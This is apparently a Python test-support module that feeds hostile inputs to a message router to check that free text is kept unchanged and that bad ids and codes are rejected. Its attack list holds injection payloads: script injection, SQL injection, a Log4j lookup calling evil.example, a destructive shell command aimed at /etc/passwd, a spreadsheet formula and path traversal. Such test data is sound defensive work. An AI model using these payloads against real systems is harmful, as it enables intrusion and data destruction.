"""Texts and ids that attack the programs which show, store or run them."""

from collections.abc import Iterator

from router.domain.networks.registry import NETWORKS
from tests.support.poison.fields import TEXTS
from tests.support.poison.record import SCHEMA, Poison, accepted, rejected, sound, written

HOSTILE = "hostile text"
HOSTILE_ID = "hostile ids"
HOSTILE_CODE = "hostile text for a class"

ATTACKS = {
    "a script": "<script>alert(document.cookie)</script>",
    "an image with a handler": '"><img src=x onerror=alert(1)>',
    "SQL": "'; DROP TABLE cases; --",
    "SQL that is always true": "' OR '1'='1",
    "a format string of C": "%s%n%x%p%99999999d",
    "a format string of Python": "{0.__class__.__mro__[1].__subclasses__()}",
    "a template": "{{7*7}}${7*7}#{7*7}",
    "a look-up of Log4j": "${jndi:ldap://evil.example/a}",
    "a shell command": "$(rm -rf /) `id` | tee /etc/passwd",
    "a spreadsheet's formula": "=cmd|'/C calc'!A0",
    "a path": "../../../../etc/passwd",
    "a right-to-left override": "invoice\u202egpj.exe",
    "isolates and marks of direction": "\u2066\u2067\u2068\u200f\u200e\u2069\u061c",
    "zero width": "ad\u200bm\u200ci\u200dn\ufeff\u2060",
    "invisible tags": "\U000e0041\U000e0042\U000e007f",
    "ANSI colours": "\x1b[31;5mred\x1b[0m",
    "ANSI that clears the screen": "\x1b[2J\x1b[H",
    "ANSI that sets the title": "\x1b]0;owned\x07",
    "ANSI in one byte": "\u009b31mred",
    "a bell and backspaces": "\a\b\b\b\x7f",
    "control characters": "".join(map(chr, range(1, 32))),
    "a NUL": "a\x00b",
    "line ends of all kinds": "a\r\nb\x0bc\x0cd\u0085e\u2028f\u2029g",
    "a forged line of a log": "x\n2026-11-24 CRITICAL everything is lost",
    "emoji": "👩‍👩‍👧‍👦🏳️‍🌈🇨🇳👍🏿",
    "accents without end": "Z" + "\u0301\u0323\u0330" * 300,
    "one word of 3,000 letters": "W" * 3000,
    "private and unassigned characters": "\ue000\U0010fffd\u0378\uffff",
    "interlinear marks": "\ufff9a\ufffab\ufffb\ufffc\ufffd",
    "rare characters of names": "𠮷𪚥㐀龦",
    "JSON in text": '{"reason": "ok", "code": "accepted"}',
}
_IDS = {
    "of blanks": "   ",
    "with a blank": "J 1",
    "with a tabulator": "J\t1",
    "with a line end": "J1\n",
    "with two lines": "J1\r\nJ2",
    "with a NUL": "J\x001",
    "with an escape sequence": "\x1b[31mJ1",
    "with a right-to-left override": "J1\u202e",
    "with a zero width blank": "J\u200b1",
    "with a no-break space": "J\u00a01",
    "in Chinese": "豫公接2026第1号",
    "in full-width digits": "Ｊ１",
    "of an emoji": "🚗",
    "of 65 characters": "J" * 65,
    "of 200,000 characters": "J" * 200_000,
}
_ODD_IDS = {
    "with slashes": "a/b/../c",
    "with the router's own separator": "policing:J1",
    "that looks like a second version": "J1/2",
    "like a script": "<script>alert(1)</script>",
    "like SQL": "';DROP_TABLE_cases;--",
    "like a format string": "%s%n{0}",
    "like a dead letter's address": "reports.policing/0/0",
    "of one character": "~",
    "like a tick": "tick-0-2026-11-24T08:00:00Z",
    "like null": "null",
    "of 64 characters": "J" * 64,
}


def hostile() -> Iterator[Poison]:
    """In free text everything is allowed that JSON can say: words of witnesses are kept, readers must escape them."""
    why = "texts are kept unchanged; a program that shows them escapes them, as the commands here do"
    for name, text in ATTACKS.items():
        yield accepted(HOSTILE, f"{name} in a text", why, sound("policing", name, bjnr=text))
    for network, field in TEXTS.items():
        text = "".join(ATTACKS.values())[:3900]
        yield accepted(HOSTILE, "all of it in a text", why, sound(network, "all", **{field: text}), network)


def ids() -> Iterator[Poison]:
    """Of every network the id has 1 to 64 printable ASCII characters without blanks (a court's case number fewer)."""
    for name, id_ in _IDS.items():
        for network in ("policing", "hotline"):
            field = NETWORKS[network].id_field
            yield rejected(HOSTILE_ID, f"id {name}", "bad-id", sound(network, name, **{field: id_}), network)
    for network, known in NETWORKS.items():
        message = sound(network, "id", **{known.id_field: "<b>\x1b[31m\u202eJ1</b>"})
        yield rejected(HOSTILE_ID, "id of markup and control characters", "bad-id", message, network)
        for name, id_ in (("a number", 12345), ("a list", ["J1"]), ("an object", {"$ne": None})):
            yield rejected(
                HOSTILE_ID, f"id that is {name}", "bad-id", sound(network, name, **{known.id_field: id_}), network
            )
    why = "1 to 64 printable ASCII characters without spaces are an id, which no part of the router splits"
    for name, id_ in _ODD_IDS.items():
        yield accepted(HOSTILE_ID, f"id {name}", why, sound("policing", name, jjdbh=id_))


def classes() -> Iterator[Poison]:
    """Where a code belongs."""
    for name, text in ATTACKS.items():
        yield rejected(HOSTILE_CODE, f"{name} for a class", SCHEMA, sound("policing", name, bjlxdm=text))
        message = sound("hotline", name, RequestType=text[:100])
        yield rejected(HOSTILE_CODE, f"{name} for a request type", "unknown-code", message, "hotline")
    for name in ("ANSI that sets the title", "a right-to-left override", "a NUL"):
        value = written({ATTACKS[name]: ATTACKS[name]})
        yield rejected(HOSTILE_CODE, f"{name} and nothing else", "bad-id", value)
        cut = '{"' + ATTACKS[name].replace("\x00", "\\u0000").replace("\x1b", "\\u001b").replace("\x07", "")
        yield rejected(HOSTILE_CODE, f"{name}, cut off", "not-json", cut.encode())
